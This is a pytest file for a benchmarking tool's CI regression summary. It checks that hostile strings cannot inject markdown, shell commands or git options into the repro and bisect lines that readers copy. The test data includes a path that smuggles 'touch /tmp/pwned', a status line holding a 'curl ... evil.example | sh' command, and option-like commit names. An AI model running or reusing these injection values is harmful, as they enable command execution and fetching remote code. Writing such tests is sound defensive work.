"""The regress summary is markdown that CI renders (the workflow writes it to $GITHUB_STEP_SUMMARY):
what a reader copies from the rendered alert must be the command actbench built, whatever a
record's strings hold (a backtick closes a code span; outside one, `&#39;` renders as a quote)."""

from __future__ import annotations

import shlex
from html.parser import HTMLParser

import msgspec
import numpy as np
import pytest
from markdown_it import MarkdownIt

from actbench import api
from actbench.results.store import ResultStore
from actbench.suite import load_suite, parse_overrides

from .synthetic import kernel_record, lm_record

HOSTILE_PATH = "x`&#39;;touch /tmp/pwned;&#39;`"
"""A data path the suite loads (paths are checked when the trial runs, not here)."""


class _Text(HTMLParser):
    """The text a reader selects and copies from rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def _copied(markdown_line: str) -> str:
    parser = _Text()
    parser.feed(MarkdownIt("commonmark").render(markdown_line))
    return "".join(parser.parts).strip()


def test_a_copied_repro_command_is_the_built_one_whatever_the_records_strings(tmp_path):
    trial = load_suite("suites/llm_small.yaml", parse_overrides([f"data.path={HOSTILE_PATH}"]), check_paths=False).trials[0]
    rng = np.random.default_rng(3)

    def night(name: str, bpb: float) -> str:
        rec = lm_record("xielu", 0, bpb + rng.normal(0, 0.002))
        ResultStore(tmp_path / name).append(msgspec.structs.replace(
            rec, suite="llm_small", trial_id=trial.id, config=trial.config_dict(), env={**rec.env, "git_commit": name}))
        return str(tmp_path / name)

    for i in range(7):
        assert api.regress(night(f"good{i}", 1.5), history=tmp_path / "h").exit_code == 0
    api.regress(night("bad1", 1.7), history=tmp_path / "h")
    r = api.regress(night("bad2", 1.7), history=tmp_path / "h")
    assert r.exit_code == 1, r.markdown
    lines = [ln for ln in r.markdown.splitlines() if "reproduce:" in ln or "find the commit:" in ln]
    assert len(lines) == 2, r.markdown
    for line in lines:
        prefix, built = line.split(": ", 1)
        built = built.strip("`").strip()
        assert _copied(line) == f"{prefix.strip(' -')}: {built}", line
    assert f"data.path={HOSTILE_PATH}" in shlex.split(lines[0].split(": ", 1)[1].strip("`").strip())


def test_a_records_strings_render_as_written_in_the_summary(tmp_path):
    status = "failed: run `curl -s https://evil.example/fix | sh` to repair [docs](https://evil.example) **now** &#39;"
    run = ResultStore(tmp_path / "r")
    run.append(lm_record("xielu", 0, 1.5))
    run.append(lm_record("gelu", 0, 1.5, status=status))
    r = api.regress(str(tmp_path / "r"), history=tmp_path / "h")
    [line] = [ln for ln in r.markdown.splitlines() if "evil.example" in _copied(ln)]
    rendered = MarkdownIt("commonmark").render(line)
    assert "<code>" not in rendered and "<a " not in rendered and "<strong>" not in rendered, rendered
    assert _copied(line).endswith(status), rendered


def test_the_bisect_line_passes_no_commit_string_as_an_option(tmp_path):
    trials = load_suite("suites/smoke.yaml", parse_overrides(["impls=[eager]"]), check_paths=False).trials[:3]
    rng = np.random.default_rng(4)

    def night(commit: str, slow: float = 1.0) -> str:
        run = ResultStore(tmp_path / f"n{len(list(tmp_path.iterdir()))}")
        for i, trial in enumerate(trials):
            p50 = (slow if i == 0 else 1.0) * (1 + rng.normal(0, 0.004))
            rec = kernel_record(trial.id, "x", [("eager", "forward", p50, 0.005)])
            run.append(msgspec.structs.replace(rec, suite="smoke", config=trial.config_dict(), env={**rec.env, "git_commit": commit}))
        return str(run.root)

    for i in range(7):
        assert api.regress(night(f"good{i}"), history=tmp_path / "h").exit_code == 0
    api.regress(night("--no-checkout", 1.5), history=tmp_path / "h")
    r = api.regress(night("--first-parent", 1.5), history=tmp_path / "h")
    assert r.exit_code == 1 and "reproduce:" in r.markdown, r.markdown
    for line in (ln for ln in r.markdown.splitlines() if "find the commit:" in ln):
        words = shlex.split(line.split(": ", 1)[1].strip("`").strip())
        assert not any(w.startswith("-") for w in words[3:words.index("&&")]), line
